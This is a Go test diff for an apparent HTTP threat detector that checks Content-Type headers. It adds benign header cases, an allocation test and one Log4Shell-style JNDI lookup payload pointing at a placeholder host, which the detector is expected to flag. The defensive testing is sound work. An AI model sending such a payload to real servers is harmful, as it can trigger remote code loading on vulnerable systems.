@@ -81,10 +81,18 @@ func TestContentTypeHeaderExploit(t *testing.T) {
 		{"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", false},
 		{"application/json; charset=utf-8", false},
 		{"text/plain;charset=UTF-8", false},
+		{`multipart/form-data; boundary="----=_Part_1_2.3"`, false},
+		{"text/html; charset=${jndi:ldap://evil.example/a}", true},
 	} {
 		tgt := Target{Method: "GET", Path: "/upload.action", Header: http.Header{"Content-Type": {tc.ct}}}
 		if r := d.Inspect(context.Background(), &tgt); r.IsThreat != tc.threat {
 			t.Errorf("Content-Type %q: threat = %v, want %v: %+v", tc.ct, r.IsThreat, tc.threat, r)
 		}
+	}
+}
+
+func TestOddMediaTypeDoesNotAllocate(t *testing.T) {
+	if n := testing.AllocsPerRun(100, func() { oddMediaType("multipart/form-data; boundary=----WebKitFormBoundary7MA4") }); n != 0 {
+		t.Fatalf("%v allocations for an ordinary Content-Type", n)
 	}
 }
